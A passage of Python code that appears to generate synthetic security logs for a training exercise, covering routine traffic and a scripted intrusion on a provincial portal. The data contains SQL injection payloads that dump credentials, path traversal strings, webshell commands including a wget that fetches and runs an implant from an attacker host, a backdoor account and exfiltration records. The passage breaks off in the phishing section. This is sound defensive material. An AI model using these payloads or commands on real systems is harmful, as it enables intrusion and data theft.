        for ts in self.arrivals(1.5, flat):
            mirror, _ = UBUNTU_MIRROR
            dur = rng.randint(2, 40)
            self.traffic(ts, fw, src=t.STC_PORTAL.ip, sport=self.eport(), dst=mirror, dport=80,
                         sintf=fw.dmz, dintf=fw.wan, policy="DMZ-Updates-Out", duration=dur,
                         sent=rng.randint(800, 3_000), rcvd=rng.randint(20_000, 900_000), nat="snat")

    def internet_noise(self) -> None:
        """What every Internet-facing address receives: isolated probes from scanners."""
        rng = self.rng
        for fw, dst in ((t.STC_FW, t.STC_PORTAL_PUBLIC), (t.LC_FW, t.LC_DVC_PUBLIC), (t.LC_FW, t.LC_FW.public_ip)):
            for ts in self.arrivals(8, flat):
                src = f"{rng.choice(['80.82', '193.163', '179.43', '167.94', '218.92', '61.177', '104.152'])}." \
                      f"{rng.randint(1, 254)}.{rng.randint(1, 254)}"
                port = rng.choice([23, 445, 3389, 1433, 5900, 8080, 8443, 2323, 6379, 9200, 5555, 81])
                self.traffic(ts, fw, src=src, sport=rng.randint(1024, 65535), dst=dst, dport=port,
                             sintf=fw.wan, dintf=fw.dmz, policy=None, action="deny")
        for ts in self.arrivals(1.3, flat):
            ip = f"{rng.choice(['45.148', '103.145', '194.26', '138.68'])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
            path, status = rng.choice([("/.env", 404), ("/wp-login.php", 404), ("/.git/config", 404),
                                       ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("/", 200)])
            self.nginx(ts, ip, "GET", path, status, 162 if status == 404 else 38_214, "-",
                       "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")

    def portal_server(self) -> None:
        """``auth.log`` of the portal web server: cron, admin sessions, SSH scanners (SSH is reachable)."""
        rng = self.rng
        cur = self.start.replace(second=0, microsecond=0)
        cur += timedelta(minutes=(5 - cur.minute % 5) % 5)
        while cur < self.end:
            pid = self.next_pid()
            ts = cur + timedelta(milliseconds=rng.randint(1, 400))
            self.auth(ts, "CRON", "pam_unix(cron:session): session opened for user www-data(uid=33) by (uid=0)", pid)
            self.auth(ts + timedelta(seconds=rng.randint(1, 3)), "CRON",
                      "pam_unix(cron:session): session closed for user www-data", pid)
            if cur.astimezone(VN).minute == 17:
                pid = self.next_pid()
                self.auth(ts, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
                self.auth(ts + timedelta(seconds=1), "CRON", "pam_unix(cron:session): session closed for user root", pid)
            cur += timedelta(minutes=5)
        admin_times = [self.at(18 + rng.randint(0, 6)), self.at(128 + rng.randint(0, 20))]
        commands = [["/usr/bin/systemctl status nginx", "/usr/bin/tail -n 200 /var/log/nginx/error.log"],
                    ["/usr/bin/apt list --upgradable", "/usr/bin/systemctl reload php8.1-fpm"]]
        for ts, cmds in zip(admin_times, commands, strict=True):
            self.ssh_login(ts, "quantri", 1000, t.STC_ADMIN_PC.ip, "publickey", cmds,
                           rng.randint(300, 1500), fw_src_intf=t.STC_FW.lan)
        for ts in self.arrivals(3, flat):
            ip = f"{rng.choice(['218.92', '61.177', '183.81', '92.255', '80.94'])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
            pid, port = self.next_pid(), rng.randint(30000, 65000)
            if rng.random() < 0.5:
                user = rng.choice(["admin", "user", "test", "oracle", "ubuntu", "pi"])
                self.auth(ts, "sshd", f"Invalid user {user} from {ip} port {port}", pid)
                self.auth(ts + timedelta(seconds=1), "sshd",
                          f"Connection closed by invalid user {user} {ip} port {port} [preauth]", pid)
            else:
                self.auth(ts, "sshd", f"Connection closed by {ip} port {port} [preauth]", pid)
            self.traffic(ts + timedelta(seconds=2), t.STC_FW, src=ip, sport=port, dst=t.STC_PORTAL_PUBLIC, dport=22,
                         sintf=t.STC_FW.wan, dintf=t.STC_FW.dmz, policy="WAN-to-Portal-SSH-Vendor", duration=2,
                         sent=1_840, rcvd=2_310, nat="dnat", nat_ip=t.STC_PORTAL.ip, nat_port=22)

    def ssh_login(self, ts: datetime, user: str, uid: int, src: str, method: str, sudo_cmds: list[str],
                  duration: int, fw_src_intf: str) -> datetime:
        """One SSH session with sudo commands; returns when it ended."""
        rng = self.rng
        pid, port = self.next_pid(), self.eport()
        self.ssh_session += 1
        sess = self.ssh_session
        if method == "publickey":
            fp = base64.b64encode(hashlib.sha256(user.encode()).digest()).decode().rstrip("=")
            self.auth(ts, "sshd", f"Accepted publickey for {user} from {src} port {port} ssh2: ED25519 SHA256:{fp}", pid)
        else:
            self.auth(ts, "sshd", f"Accepted password for {user} from {src} port {port} ssh2", pid)
        self.auth(ts, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)", pid)
        self.auth(ts + timedelta(milliseconds=30), "systemd-logind", f"New session {sess} of user {user}.", 812)
        cur = ts
        for cmd in sudo_cmds:
            cur += timedelta(seconds=rng.randint(15, 120))
            self.auth(cur, "sudo", f"  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}")
            self.auth(cur, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})")
            # An interactive root shell (or an onward ssh) keeps the sudo session open until logout.
            interactive = cmd == "/bin/bash" or cmd.startswith("/usr/bin/ssh ")
            closed = ts + timedelta(seconds=duration - 5) if interactive else cur + timedelta(seconds=rng.randint(1, 20))
            self.auth(closed, "sudo", "pam_unix(sudo:session): session closed for user root")
        end = ts + timedelta(seconds=duration)
        self.auth(end, "sshd", f"Received disconnect from {src} port {port}:11: disconnected by user", pid)
        self.auth(end, "sshd", f"Disconnected from user {user} {src} port {port}", pid)
        self.auth(end, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
        self.auth(end + timedelta(milliseconds=20), "systemd-logind",
                  f"Session {sess} logged out. Waiting for processes to exit.", 812)
        self.auth(end + timedelta(milliseconds=40), "systemd-logind", f"Removed session {sess}.", 812)
        fw = t.STC_FW
        external = not src.startswith("10.")
        self.traffic(end, fw, src=src, sport=port, dst=t.STC_PORTAL_PUBLIC if external else t.STC_PORTAL.ip,
                     dport=22, sintf=fw.wan if external else fw_src_intf, dintf=fw.dmz,
                     policy="WAN-to-Portal-SSH-Vendor" if external else "Admin-to-DMZ-SSH", duration=duration,
                     sent=rng.randint(20_000, 200_000), rcvd=rng.randint(40_000, 900_000),
                     nat="dnat" if external else "noop", nat_ip=t.STC_PORTAL.ip if external else None,
                     nat_port=22 if external else None)
        return end

    def windows_routine(self) -> None:
        """Kerberos network logons on the Le Chan DC; everyday programs on the workstation."""
        rng = self.rng
        for ts in self.arrivals(18, office):
            pc = rng.choice(t.LC_PCS)
            self.security_logon(ts, t.LC_DC, pc.user or "", pc.ip, 3, "Kerberos", "Kerberos", pc.name)
        for ts in self.arrivals(5, office):
            exe, desc, product, company, cmd = rng.choice([
                ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "Google Chrome",
                 "Google LLC", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'),
                ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Microsoft Excel",
                 "Microsoft Office", "Microsoft Corporation",
                 '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\mai.nt\\Documents\\Du toan 2027.xlsx"'),
                ("C:\\Users\\mai.nt\\AppData\\Local\\Programs\\Zalo\\Zalo.exe", "Zalo", "Zalo", "VNG Corp",
                 '"C:\\Users\\mai.nt\\AppData\\Local\\Programs\\Zalo\\Zalo.exe"'),
            ])
            self.sysmon_process(ts, t.LC_VICTIM, exe, cmd, desc, product, company,
                                "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 5124)

    # -- Windows event builders --------------------------------------------------------------------------------
    def security_logon(self, ts: datetime, host: t.Host, user: str, ip: str, logon_type: int, process: str,
                       package: str, workstation: str) -> None:
        logon_id = f"0x{self.rng.randrange(0x100000, 0xFFFFFF):x}"
        data = {
            "AuthenticationPackageName": package, "ElevatedToken": "%%1843", "ImpersonationLevel": "%%1833",
            "IpAddress": ip, "IpPort": "0" if package == "Kerberos" else str(self.eport()), "KeyLength": "0",
            "LmPackageName": "NTLM V2" if package == "NTLM" else "-", "LogonGuid": _guid(self.rng, True),
            "LogonProcessName": process, "LogonType": str(logon_type), "ProcessId": "0x0", "ProcessName": "-",
            "RestrictedAdminMode": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0", "SubjectUserName": "-",
            "SubjectUserSid": "S-1-0-0", "TargetDomainName": t.LC_DOMAIN, "TargetLinkedLogonId": "0x0",
            "TargetLogonId": logon_id, "TargetOutboundDomainName": "-", "TargetOutboundUserName": "-",
            "TargetUserName": user, "TargetUserSid": _sid(1100 + sum(map(ord, user)) % 800),
            "TransmittedServices": "-", "VirtualAccount": "%%1843", "WorkstationName": workstation if package == "NTLM" else "-",
        }
        msg = ("An account was successfully logged on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n"
               "\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nLogon Information:\n"
               f"\tLogon Type:\t\t{logon_type}\n\tRestricted Admin Mode:\t-\n\tVirtual Account:\t\tNo\n"
               "\tElevated Token:\t\tNo\n\nImpersonation Level:\t\tImpersonation\n\nNew Logon:\n"
               f"\tSecurity ID:\t\t{data['TargetUserSid']}\n\tAccount Name:\t\t{user}\n\tAccount Domain:\t\t{t.LC_DOMAIN}\n"
               f"\tLogon ID:\t\t{logon_id}\n\tLinked Logon ID:\t\t0x0\n\tNetwork Account Name:\t-\n"
               f"\tNetwork Account Domain:\t-\n\tLogon GUID:\t\t{data['LogonGuid']}\n\nProcess Information:\n"
               "\tProcess ID:\t\t0x0\n\tProcess Name:\t\t-\n\nNetwork Information:\n"
               f"\tWorkstation Name:\t{data['WorkstationName']}\n\tSource Network Address:\t{ip}\n"
               f"\tSource Port:\t\t{data['IpPort']}\n\nDetailed Authentication Information:\n"
               f"\tLogon Process:\t\t{process}\n\tAuthentication Package:\t{package}\n"
               f"\tTransited Services:\t-\n\tPackage Name (NTLM only):\t{data['LmPackageName']}\n\tKey Length:\t\t0")
        self.winlog(ts, host, "Security", 4624, "Microsoft-Windows-Security-Auditing", "Logon", data, msg,
                    "success", ["Audit Success"])

    def security_failed(self, ts: datetime, host: t.Host, user: str, ip: str, workstation: str,
                        sub_status: str) -> None:
        port = str(self.eport())
        data = {
            "AuthenticationPackageName": "NTLM", "FailureReason": "%%2313", "IpAddress": ip, "IpPort": port,
            "KeyLength": "0", "LmPackageName": "-", "LogonProcessName": "NtLmSsp ", "LogonType": "3",
            "ProcessId": "0x0", "ProcessName": "-", "Status": "0xc000006d", "SubStatus": sub_status,
            "SubjectDomainName": "-", "SubjectLogonId": "0x0", "SubjectUserName": "-", "SubjectUserSid": "S-1-0-0",
            "TargetDomainName": t.LC_DOMAIN, "TargetUserName": user, "TargetUserSid": "S-1-0-0",
            "TransmittedServices": "-", "WorkstationName": workstation,
        }
        msg = ("An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n"
               "\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nLogon Type:\t\t\t3\n\nAccount For Which Logon Failed:\n"
               f"\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t{user}\n\tAccount Domain:\t\t{t.LC_DOMAIN}\n\n"
               "Failure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n"
               f"\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t{sub_status.upper().replace('0X', '0x')}\n\n"
               "Process Information:\n\tCaller Process ID:\t0x0\n\tCaller Process Name:\t-\n\n"
               f"Network Information:\n\tWorkstation Name:\t{workstation}\n\tSource Network Address:\t{ip}\n"
               f"\tSource Port:\t\t{port}\n\nDetailed Authentication Information:\n\tLogon Process:\t\tNtLmSsp \n"
               "\tAuthentication Package:\tNTLM\n\tTransited Services:\t-\n\tPackage Name (NTLM only):\t-\n"
               "\tKey Length:\t\t0")
        self.winlog(ts, host, "Security", 4625, "Microsoft-Windows-Security-Auditing", "Logon", data, msg,
                    "failure", ["Audit Failure"])

    def sysmon_process(self, ts: datetime, host: t.Host, image: str, cmd: str, desc: str, product: str,
                       company: str, parent: str, parent_cmd: str, parent_pid: int,
                       integrity: str = "Medium", pid: int | None = None,
                       original: str | None = None) -> tuple[str, int]:
        guid, pid = _guid(self.rng), pid or self.rng.randrange(1000, 12000, 4)
        user = f"{t.LC_DOMAIN}\\{host.user}"
        name = image.rsplit("\\", 1)[-1]
        utc = ts.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"
        data = {
            "RuleName": "-", "UtcTime": utc, "ProcessGuid": guid, "ProcessId": str(pid), "Image": image,
            "FileVersion": "-" if company == "-" else "16.0.18129.20158" if "Office" in image else "10.0.19041.3996 (WinBuild.160101.0800)",
            "Description": desc, "Product": product, "Company": company,
            "OriginalFileName": original or name,
            "CommandLine": cmd, "CurrentDirectory": f"C:\\Users\\{host.user}\\", "User": user,
            "LogonGuid": "{6b2f4c1a-3e7d-6747-d2f1-3e0000000000}", "LogonId": "0x3e1d2f", "TerminalSessionId": "1",
            "IntegrityLevel": integrity,
            "Hashes": f"SHA256={_hex(image, 64)},IMPHASH={_hex(image + 'i', 32)}",
            "ParentProcessGuid": _guid(random.Random(parent + host.name)), "ParentProcessId": str(parent_pid),
            "ParentImage": parent, "ParentCommandLine": parent_cmd, "ParentUser": user,
        }
        msg = "Process Create:\n" + "\n".join(f"{k}: {v}" for k, v in data.items())
        self.winlog(ts, host, "Microsoft-Windows-Sysmon/Operational", 1, "Microsoft-Windows-Sysmon",
                    "Process Create (rule: ProcessCreate)", data, msg)
        return guid, pid

    # ==================================================================================================
    # The attack
    # ==================================================================================================
    def attack(self) -> None:
        self.recon(self.at(12))
        self.web_attack(self.at(25))
        self.ssh_bruteforce(self.at(55))
        self.exfiltration(self.at(92))
        self.phishing(self.at(68))
        self.password_spray(self.at(100))

    def recon(self, t0: datetime) -> None:
        """(a) Port scan of the portal's public address: denies to many distinct ports in three minutes."""
        rng, fw = self.rng, t.STC_FW
        ports = sorted(set(rng.sample(range(1, 10_000), 260)) | {21, 23, 25, 110, 135, 139, 445, 1433, 3306,
                                                                  3389, 5432, 5900, 8080, 8443})
        rng.shuffle(ports)
        cur = t0
        for port in ports:
            cur += timedelta(milliseconds=rng.randint(150, 900))
            if port in (22, 80, 443):
                continue
            self.traffic(cur, fw, src=t.ATTACKER_IP, sport=rng.randint(40_000, 65_000), dst=t.STC_PORTAL_PUBLIC,
                         dport=port, sintf=fw.wan, dintf=fw.dmz, policy=None, action="deny")
        for port, policy in ((22, "WAN-to-Portal-SSH-Vendor"), (80, "WAN-to-Portal-HTTP"),
                             (443, "WAN-to-Portal-HTTPS")):
            self.traffic(t0 + timedelta(seconds=rng.randint(20, 140)), fw, src=t.ATTACKER_IP,
                         sport=rng.randint(40_000, 65_000), dst=t.STC_PORTAL_PUBLIC, dport=port, sintf=fw.wan,
                         dintf=fw.dmz, policy=policy, action="close", duration=1, sent=60, rcvd=44, nat="dnat",
                         nat_ip=t.STC_PORTAL.ip, nat_port=port)

    def web_attack(self, t0: datetime) -> None:
        """(b) Content discovery, SQL injection, path traversal, webshell upload and commands on the portal."""
        rng, fw, ip = self.rng, t.STC_FW, t.ATTACKER_IP
        gobuster = "gobuster/3.6"
        cur = t0
        words = ["admin", "administrator", "backup", "backups", "config", "db", "old", "test", "uploads", "api",
                 "phpmyadmin", "pma", "cms", "login", "wp-admin", ".git/HEAD", ".env", "server-status", "install",
                 "setup.php", "info.php", "phpinfo.php", "tmp", "logs", "data", "includes", "modules", "vendor",
                 "composer.json", "web.config", "robots.txt", "sitemap.xml", "admin/login.php", "tai-ve.php",
                 "static", "uploads/2026", "backup.zip", "site.tar.gz", "db.sql", "dump.sql"]
        found = {"admin": (301, 178), "uploads": (301, 178), "robots.txt": (200, 212), "sitemap.xml": (200, 8_420),
                 "admin/login.php": (200, 6_114), "tai-ve.php": (400, 311), "static": (301, 178),
                 "modules": (403, 162), "includes": (403, 162), "uploads/2026": (301, 178)}
        for w in words:
            cur += timedelta(milliseconds=rng.randint(40, 250))
            status, size = found.get(w, (404, 162))
            self.nginx(cur, ip, "GET", f"/{w}", status, size, "-", gobuster)
        self.traffic(cur + timedelta(seconds=2), fw, src=ip, sport=self.eport(), dst=t.STC_PORTAL_PUBLIC,
                     dport=443, sintf=fw.wan, dintf=fw.dmz, policy="WAN-to-Portal-HTTPS", duration=14,
                     sent=22_000, rcvd=61_000, nat="dnat", nat_ip=t.STC_PORTAL.ip, nat_port=443)
        # SQL injection with sqlmap on the article id.
        sqlmap = "sqlmap/1.8.11#stable (https://sqlmap.org)"
        payloads = [
            "2417", "2417'", "2417%27%20AND%201%3D1--%20-", "2417%27%20AND%201%3D2--%20-", "2417%20AND%201%3D1",
            "2417%20AND%201%3D2", "2417%20ORDER%20BY%201--%20-", "2417%20ORDER%20BY%2010--%20-",
            "2417%20ORDER%20BY%206--%20-", "2417%20ORDER%20BY%207--%20-",
            "2417%20AND%20SLEEP(5)", "2417%20AND%20(SELECT%204412%20FROM%20(SELECT(SLEEP(5)))aXbc)",
            "-1641%20UNION%20ALL%20SELECT%20NULL,NULL,NULL,NULL,NULL,NULL--%20-",
            "-1641%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b766a71,0x4c6f7a,0x7176707671),NULL,NULL,NULL,NULL--%20-",
            "-1641%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b766a71,IFNULL(CAST(database()%20AS%20NCHAR),0x20),0x7176707671),NULL,NULL,NULL,NULL--%20-",
            "-1641%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b766a71,IFNULL(CAST(table_name%20AS%20NCHAR),0x20),0x7176707671),NULL,NULL,NULL,NULL%20FROM%20INFORMATION_SCHEMA.TABLES%20WHERE%20table_schema%3D0x7374635f706f7274616c--%20-",
            "-1641%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b766a71,IFNULL(CAST(column_name%20AS%20NCHAR),0x20),0x7176707671),NULL,NULL,NULL,NULL%20FROM%20INFORMATION_SCHEMA.COLUMNS%20WHERE%20table_name%3D0x71745f6e67756f69647a756e67--%20-",
            "-1641%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b766a71,IFNULL(CAST(ten_dang_nhap%20AS%20NCHAR),0x20),0x6e6c6c,IFNULL(CAST(mat_khau%20AS%20NCHAR),0x20),0x7176707671),NULL,NULL,NULL,NULL%20FROM%20stc_portal.qt_nguoidung--%20-",
        ]
        cur = t0 + timedelta(minutes=6)
        session = self.new_session(fw)
        for i in range(60):
            p = payloads[min(i, len(payloads) - 1)] if i < len(payloads) else rng.choice(payloads[10:])
            cur += timedelta(milliseconds=rng.randint(300, 5_200 if "SLEEP" in p else 1_400))
            status = 500 if p.endswith("'") or "ORDER%20BY%2010" in p or "ORDER%20BY%207" in p else 200
            size = 1_287 if status == 500 else 24_530 + rng.randint(-400, 900)
            self.nginx(cur, ip, "GET", f"/tin-tuc/chi-tiet.php?id={p}", status, size, "-", sqlmap)
            if i in (1, 12, 17):
                self.ips(cur, fw, src=ip, sport=51_000 + i, dst=t.STC_PORTAL.ip, dport=443, sintf=fw.wan,
                         dintf=fw.dmz, policy="WAN-to-Portal-HTTPS", attack="HTTP.URI.SQL.Injection", attackid=15621,
                         severity="high", direction="incoming", service="HTTPS", msg_group="web_misc",
                         session=session, hostname=t.STC_PORTAL_DOMAIN, url=f"/tin-tuc/chi-tiet.php?id={p}")
        self.traffic(cur + timedelta(seconds=3), fw, src=ip, sport=51_000, dst=t.STC_PORTAL_PUBLIC, dport=443,
                     sintf=fw.wan, dintf=fw.dmz, policy="WAN-to-Portal-HTTPS",
                     duration=int((cur - t0).total_seconds()) - 360, sent=96_400, rcvd=1_410_000, nat="dnat",
                     nat_ip=t.STC_PORTAL.ip, nat_port=443, session=session,
                     utm={"utmaction": "allow", "countips": 3})
        # Path traversal on the download handler.
        browser = CITIZEN_UAS[5]
        cur = t0 + timedelta(minutes=12)
        traversal = [("../../../../etc/passwd", 200, 2_318), ("..%2F..%2F..%2F..%2Fetc%2Fshadow", 200, 0),
                     ("....//....//....//etc/hosts", 400, 311), ("../config/database.php", 200, 642),
                     ("../../../../proc/self/environ", 200, 0), ("..%252f..%252f..%252fetc%252fpasswd", 400, 311)]
        for path, status, size in traversal:
            cur += timedelta(seconds=rng.randint(4, 25))
            self.nginx(cur, ip, "GET", f"/tai-ve.php?file={path}", status, size, "-", browser)
        self.ips(cur, fw, src=ip, sport=52_114, dst=t.STC_PORTAL.ip, dport=443, sintf=fw.wan, dintf=fw.dmz,
                 policy="WAN-to-Portal-HTTPS", attack="HTTP.URI.Directory.Traversal", attackid=12000, severity="high",
                 direction="incoming", service="HTTPS", msg_group="web_misc", session=self.new_session(fw),
                 hostname=t.STC_PORTAL_DOMAIN, url="/tai-ve.php?file=../../../../etc/passwd")
        # Admin login with the cracked password, upload of a PHP webshell, then commands through it.
        cur = t0 + timedelta(minutes=16)
        portal = f"https://{t.STC_PORTAL_DOMAIN}"
        steps = [("GET", "/admin/login.php", 200, 6_114, "-"),
                 ("POST", "/admin/login.php", 302, 0, f"{portal}/admin/login.php"),
                 ("GET", "/admin/index.php", 200, 21_380, f"{portal}/admin/login.php"),
                 ("GET", "/admin/modules/media/index.php", 200, 17_902, f"{portal}/admin/index.php"),
                 ("POST", "/admin/modules/media/upload.php", 200, 214, f"{portal}/admin/modules/media/index.php")]
        for method, path, status, size, ref in steps:
            cur += timedelta(seconds=rng.randint(3, 30))
            self.nginx(cur, ip, method, path, status, size, ref, browser)
        month = t0.astimezone(VN).strftime("%Y/%m")
        shell = f"/uploads/{month}/thumb_cache.php"
        cur += timedelta(seconds=41)
        self.nginx(cur, ip, "GET", shell, 200, 0, "-", "python-requests/2.31.0")
        cmds = [("id", 54), ("whoami", 9), ("uname%20-a", 112), ("cat%20/etc/passwd", 2_318),
                ("ls%20-la%20/var/www/html/config", 611), ("cat%20/var/www/html/config/database.php", 642),
                ("ps%20aux", 9_881), ("netstat%20-antp", 3_102),
                (f"wget%20http://{t.EXFIL_IP}/x86_64/kworker%20-O%20/tmp/.kworker", 0),
                ("chmod%20%2Bx%20/tmp/.kworker%20%26%26%20/tmp/.kworker", 0)]
        for cmd, size in cmds:
            cur += timedelta(seconds=rng.randint(8, 70))
            self.nginx(cur, ip, "GET", f"{shell}?cmd={cmd}", 200, size, "-", "python-requests/2.31.0")
        for _ in range(4):
            cur += timedelta(seconds=rng.randint(20, 90))
            self.nginx(cur, ip, "POST", shell, 200, rng.randint(40, 4_000), "-", "python-requests/2.31.0")
        # The dropped implant fetched from the attacker's server (port 80, plain HTTP).
        self.traffic(cur - timedelta(seconds=150), fw, src=t.STC_PORTAL.ip, sport=self.eport(), dst=t.EXFIL_IP,
                     dport=80, sintf=fw.dmz, dintf=fw.wan, policy="DMZ-Updates-Out", duration=3, sent=412,
                     rcvd=2_894_112, nat="snat")

    def ssh_bruteforce(self, t0: datetime) -> None:
        """(c) Password guessing on the portal's SSH from the same address, success, sudo, backdoor account."""
        rng, fw, ip = self.rng, t.STC_FW, t.ATTACKER_IP
        users = ["root", "admin", "ubuntu", "webadmin", "test", "oracle", "postgres", "ftpuser", "deploy",
                 "stc", "sotaichinh", "user", "guest", "git", "www"]
        valid = {"root", "webadmin", "postgres"}
        cur = t0
        attempts = 0
        session = self.new_session(fw)
        while attempts < 190:
            pid, port = self.next_pid(), rng.randint(33_000, 64_000)
            user = rng.choice(users)
            conn_start = cur
            for k in range(rng.randint(3, 6)):
                cur += timedelta(milliseconds=rng.randint(700, 2_600))
                attempts += 1
                if k == 0:
                    if user not in valid:
                        self.auth(cur - timedelta(milliseconds=300), "sshd",
                                  "pam_unix(sshd:auth): check pass; user unknown", pid)
                    self.auth(cur - timedelta(milliseconds=300), "sshd",
                              "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                              f"rhost={ip}" + (f"  user={user}" if user in valid else ""), pid)
                if user in valid:
                    self.auth(cur, "sshd", f"Failed password for {user} from {ip} port {port} ssh2", pid)
                else:
                    if k == 0:
                        self.auth(cur - timedelta(milliseconds=600), "sshd",
                                  f"Invalid user {user} from {ip} port {port}", pid)
                    self.auth(cur, "sshd", f"Failed password for invalid user {user} from {ip} port {port} ssh2", pid)
            if user in valid:
                self.auth(cur, "sshd", f"error: maximum authentication attempts exceeded for {user} from {ip} "
                                       f"port {port} ssh2 [preauth]", pid)
                self.auth(cur, "sshd", f"Disconnecting authenticating user {user} {ip} port {port}: "
                                       "Too many authentication failures [preauth]", pid)
                self.auth(cur, "sshd", "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                                       f"rhost={ip}  user={user}", pid)
            else:
                self.auth(cur, "sshd", f"Connection closed by invalid user {user} {ip} port {port} [preauth]", pid)
            self.traffic(cur, fw, src=ip, sport=port, dst=t.STC_PORTAL_PUBLIC, dport=22, sintf=fw.wan, dintf=fw.dmz,
                         policy="WAN-to-Portal-SSH-Vendor",
                         duration=max(1, int((cur - conn_start).total_seconds())), sent=rng.randint(2_000, 4_500),
                         rcvd=rng.randint(2_500, 5_000), nat="dnat", nat_ip=t.STC_PORTAL.ip, nat_port=22)
            cur += timedelta(milliseconds=rng.randint(100, 900))
        self.ips(t0 + timedelta(seconds=40), fw, src=ip, sport=41_200, dst=t.STC_PORTAL.ip, dport=22, sintf=fw.wan,
                 dintf=fw.dmz, policy="WAN-to-Portal-SSH-Vendor", attack="SSH.Connection.Brute.Force",
                 attackid=18525, severity="high", direction="incoming", service="SSH", msg_group="anomaly",
                 session=session)
        # The guessed password of the vendor account works.
        cur += timedelta(seconds=35)
        end = self.ssh_login(cur, "webadmin", 1001, ip, "password", ["/bin/bash"], 1_140, fw_src_intf=fw.wan)
        # As root (sudo bash): a backdoor account with sudo rights.
        cur += timedelta(seconds=170)
        upid = self.next_pid()
        self.auth(cur, "useradd", "new group: name=sysupd, GID=1002", upid)
        self.auth(cur, "useradd", "new user: name=sysupd, UID=1002, GID=1002, home=/home/sysupd, shell=/bin/bash, "
                                  "from=/dev/pts/0", upid)
        cur += timedelta(seconds=9)
        mpid = self.next_pid()
        self.auth(cur, "usermod", "add 'sysupd' to group 'sudo'", mpid)
        self.auth(cur, "usermod", "add 'sysupd' to shadow group 'sudo'", mpid)
        cur += timedelta(seconds=6)
        self.auth(cur, "passwd", "pam_unix(passwd:chauthtok): password changed for sysupd", self.next_pid())
        # The attacker returns with the new account.
        self.ssh_login(end + timedelta(minutes=4), "sysupd", 1002, ip, "password",
                       [f"/usr/bin/ssh -i /root/.ssh/id_ed25519_backup root@{t.STC_DB.ip}"], 900, fw_src_intf=fw.wan)

    def exfiltration(self, t0: datetime) -> None:
        """(d) Pivot from the web server to the finance database server, implant beacon, bulk upload out."""
        rng, fw = self.rng, t.STC_FW
        # Lateral movement: SSH from the DMZ web server into the server zone (logged when it closes).
        self.traffic(t0 - timedelta(minutes=5) + timedelta(seconds=1_860), fw, src=t.STC_PORTAL.ip, sport=self.eport(), dst=t.STC_DB.ip,
                     dport=22, sintf=fw.dmz, dintf=fw.srv, policy="DMZ-Portal-to-FinDB-Mgmt", duration=1_860,
                     sent=388_204, rcvd=1_204_332)
        # The implant on the database server calls home over HTTP; IPS recognises the beacon.
        session = self.new_session(fw)
        self.ips(t0 + timedelta(minutes=2), fw, src=t.STC_DB.ip, sport=self.eport(), dst=t.EXFIL_IP, dport=80,
                 sintf=fw.srv, dintf=fw.wan, policy="Servers-Updates-Out", attack="Cobalt.Strike.Beacon",
                 attackid=46_892, severity="critical", direction="outgoing", service="HTTP", msg_group="backdoor",
                 session=session, hostname=t.EXFIL_IP, url="/jquery-3.3.1.min.js")
        self.traffic(t0 + timedelta(minutes=2, seconds=1), fw, src=t.STC_DB.ip, sport=self.eport(), dst=t.EXFIL_IP,
                     dport=80, sintf=fw.srv, dintf=fw.wan, policy="Servers-Updates-Out", duration=1, sent=1_208,
                     rcvd=5_544, nat="snat", session=session, utm={"utmaction": "allow", "countips": 1})
        # Bulk upload: a database dump sent out in several long sessions.
        cur = t0 + timedelta(minutes=6)
        for _ in range(5):
            dur = rng.randint(480, 780)
            sent = rng.randint(560_000_000, 880_000_000)
            self.traffic(cur + timedelta(seconds=dur), fw, src=t.STC_DB.ip, sport=self.eport(), dst=t.EXFIL_IP,
                         dport=443, sintf=fw.srv, dintf=fw.wan, policy="Servers-Updates-Out", duration=dur,
                         sent=sent, rcvd=rng.randint(900_000, 2_400_000), nat="snat")
            cur += timedelta(seconds=dur + rng.randint(20, 90))

    def phishing(self, t0: datetime) -> None:
        """(e) Le Chan: phishing page via the proxy, malicious document, encoded PowerShell, implant, beaconing."""
        rng, fw, pc = self.rng, t.LC_FW, t.LC_VICTIM
        user = pc.user or "-"
        page = f"http://{t.PHISH_DOMAIN}/van-ban/2026/11/QD-2417-UBND.html"
        doc_url = f"http://{t.PHISH_DOMAIN}/tai-ve/QD-2417-UBND-KhenThuong.doc"
        cur = t0
        self.squid(cur, 412, pc.ip, "TCP_MISS", 200, 14_882, "GET", page, user, t.PHISH_IP, "text/html")
        for asset, size, ctype in (("/static/style.css", 3_310, "text/css"), ("/static/quoc-huy.png", 41_203, "image/png")):
            cur += timedelta(milliseconds=rng.randint(80, 300))
            self.squid(cur, rng.randint(90, 300), pc.ip, "TCP_MISS", 200, size, "GET",
